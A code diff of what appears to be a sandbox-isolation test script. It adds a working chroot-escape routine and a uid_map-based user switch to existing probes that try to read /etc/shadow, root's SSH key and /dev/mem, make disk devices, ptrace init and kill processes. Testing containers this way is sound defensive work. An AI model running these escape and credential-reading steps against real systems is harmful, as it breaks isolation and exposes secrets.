@@ -58,6 +58,17 @@ def kill_everybody():
     return "there is somebody to kill"
 
 
+def leave_root():
+    before, above = os.listdir("/"), os.open("/", os.O_RDONLY)
+    os.mkdir("/tmp/below")
+    os.chroot("/tmp/below")
+    os.fchdir(above)
+    for _ in range(100):
+        os.chdir("..")
+    os.chroot(".")
+    return os.listdir("/") != before
+
+
 print("reading what is not mine:")
 for path in ("/etc/shadow", "/root/.ssh/id_rsa", "/proc/kcore", "/proc/1/environ", "/dev/mem", "/opt/joblet/config/joblet-config.yml"):
     attempt(f"read {path}", lambda: read(path) or False)
@@ -71,9 +82,11 @@ attempt("make the root writable again", lambda: call("mount", None, b"/", None, 
 attempt("make a disk device", lambda: os.mknod("/tmp/disk", 0o060600, os.makedev(8, 0)))
 attempt("change the host name", lambda: socket.sethostname("evil"))
 print("getting more rights:")
-attempt("become another user", lambda: os.setresuid(1, 1, 1))
+# A container has users and roots of its own, and goes no further.
+ids = int(open("/proc/self/uid_map").read().split()[2])
+attempt("become another user", lambda: os.setresuid(ids, ids, ids))
 attempt("make a namespace where I am root", lambda: call("unshare", 0x10000000))
-attempt("leave through chroot", lambda: os.chroot("/tmp"))
+attempt("leave through chroot", lambda: leave_root() if ids > 1 else os.chroot("/tmp"))
 attempt("trace my init", lambda: call("ptrace", 16, 1, 0, 0))
 print("reaching others:")
 attempt("kill everybody", kill_everybody)
